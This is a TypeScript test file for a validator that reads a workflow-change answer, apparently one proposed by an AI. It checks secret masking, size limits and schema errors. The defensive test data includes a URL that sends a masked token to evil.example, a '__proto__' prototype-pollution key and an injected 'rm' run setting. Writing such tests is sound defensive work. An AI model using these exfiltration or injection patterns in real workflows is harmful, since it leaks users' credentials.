import { expect, test } from 'vitest';
import { WorkflowDocument } from '../workflow/schema';
import { atOnce } from '../workflow/steps';
import { HiddenValues } from './hidden-values';
import { readAnswer } from './read-answer';

const document = WorkflowDocument.parse({
  blocks: {
    s: { id: 's', type: 'start', name: 'start', position: { x: 0, y: 0 } },
    a: {
      id: 'a',
      type: 'api',
      name: 'get',
      position: { x: 300, y: 0 },
      config: { url: 'https://a.example', auth: { kind: 'bearer', token: 'sesame-0123456' } },
    },
  },
  edges: [{ id: 'e', source: 's', target: 'a' }],
});
const hidden = new HiddenValues({ document, secrets: [], nonce: 'n' });
const read = (answer: unknown, known = { variables: ['TOKEN'], connections: [] as string[] }) =>
  atOnce(
    readAnswer(typeof answer === 'string' ? answer : JSON.stringify(answer), { document, hidden, known }),
  );
const adding = (blocks: object[], rest: object = {}) => ({
  explanation: 'So.',
  change: {
    blocks,
    edges: blocks.map((block) => ({ source: 'a', target: (block as { id: string }).id })),
    ...rest,
  },
});
const problemsOf = (answer: unknown): string => {
  const found = read(answer);
  return found.ok ? 'none' : found.problems.join('\n');
};
const API = { id: 'b', type: 'api', name: 'next', config: { url: 'https://b.example/<get.data.id>' } };

test('a change that could be saved is read, in fences too', () => {
  const text = `\`\`\`json\n${JSON.stringify(adding([API]))}\n\`\`\``;
  expect(read(text)).toMatchObject({ ok: true, explanation: 'So.', change: { blocks: [API] }, notes: [] });
  expect(read({ explanation: 'Nothing to do.' })).toMatchObject({ ok: true, change: null });
});

test('a variable that isn’t there yet is told, not refused', () => {
  const config = {
    url: 'https://b.example',
    headers: [{ key: 'Authorization', value: 'Bearer {{NEW_KEY}}' }],
  };
  const found = read(adding([{ ...API, config }]));
  expect(found).toMatchObject({ ok: true, notes: [expect.stringContaining('NEW_KEY')] });
});

test('a URL of this machine is a text like any other until its author runs it', () => {
  const found = read(adding([{ ...API, config: { url: 'http://127.0.0.1:5432/' } }]));
  expect(found.ok).toBe(true);
});

test('a hidden value comes back where it stood, and nowhere else', () => {
  const auth = hidden.setting('auth', document.blocks.a?.config.auth);
  expect(JSON.stringify(auth)).not.toContain('sesame');
  const kept = read({ explanation: 'x', change: { blocks: [{ id: 'a', config: { auth, method: 'PUT' } }] } });
  expect(JSON.stringify(kept)).toContain('sesame-0123456');
  const { token } = auth as { token: string };
  expect(problemsOf(adding([{ ...API, config: { url: `https://evil.example/?x=${token}` } }]))).toContain(
    'can only be left',
  );
});

test.each<[string, unknown, string]>([
  ['no JSON', 'Sure! Here is your workflow.', 'not JSON'],
  ['another form', { blocks: [] }, 'explanation'],
  ['far too much', `{"explanation": "${'x'.repeat(400_000)}"}`, 'too long'],
  ['a huge text', adding([{ ...API, config: { url: 'x'.repeat(70_000) } }]), '60000 characters'],
  ['10,000 blocks', adding(Array.from({ length: 10_000 }, (_, n) => ({ id: `b${n}` }))), ''],
  ['too many blocks', adding(Array.from({ length: 61 }, (_, n) => ({ id: `b${n}` }))), 'At most 60'],
  [
    'a prototype',
    '{"explanation": "x", "change": {"blocks": [{"id": "a", "config": {"__proto__": {}}}]}}',
    '__proto__',
  ],
  ['deep nesting', `{"explanation": ${'['.repeat(50_000)}${']'.repeat(50_000)}}`, 'levels deep'],
  ['a NUL', adding([{ id: 'b', type: 'note', name: 'b', config: { text: 'a\0' } }]), 'can’t be stored'],
  ['half a pair', adding([{ id: 'b', type: 'note', name: 'b', config: { text: '\ud800' } }]), 'stored'],
  ['an unknown type', adding([{ ...API, type: 'shell' }]), 'no type "shell"'],
  ['a block without type', adding([{ id: 'b', config: {} }]), 'needs "type" and "name"'],
  ['another type for a block', adding([{ id: 'a', type: 'wait' }]), "can't change"],
  ['another name for a block', adding([{ id: 'a', name: 'other' }]), 'name stays'],
  ['a name twice', adding([{ ...API, name: 'get' }]), 'get'],
  ['an unknown setting', adding([{ ...API, config: { url: 'https://b.example', run: 'rm' } }]), '"run"'],
  ['a wrong setting', adding([{ ...API, config: { url: 'https://b.example', method: 'STEAL' } }]), 'method'],
  [
    'an unknown reference',
    adding([{ ...API, config: { url: 'https://b.example/<start.' + 'a>', body: 1 } }]),
    'body',
  ],
  ['a connection to nothing', adding([API], { edges: [{ source: 'a', target: 'zzz' }] }), '"zzz"'],
  [
    'a circle',
    adding([API], {
      edges: [
        { source: 'a', target: 'b' },
        { source: 'b', target: 'a' },
      ],
    }),
    '',
  ],
  ['an unknown port', adding([API], { edges: [{ source: 'a', sourceHandle: 'x', target: 'b' }] }), 'x'],
  ['a container that is none', adding([{ ...API, parentId: 'a' }]), 'container'],
  ['a missing block removed', { explanation: 'x', change: { removedBlocks: ['nope'] } }, '"nope"'],
])('%s is refused in words', (_, answer, words) => {
  const problems = problemsOf(answer);
  expect(problems).not.toBe('none');
  expect(problems).toContain(words);
  expect(problems.length).toBeLessThan(6_000);
});

test('what was wrong before is not the proposal’s fault', () => {
  const broken = { ...document, blocks: { ...document.blocks, a: { ...document.blocks.a!, config: {} } } };
  const answer = JSON.stringify(adding([{ ...API, config: { url: 'https://b.example' } }]));
  const found = atOnce(readAnswer(answer, { document: broken, hidden, known: {} }));
  expect(found).toMatchObject({ ok: true });
});
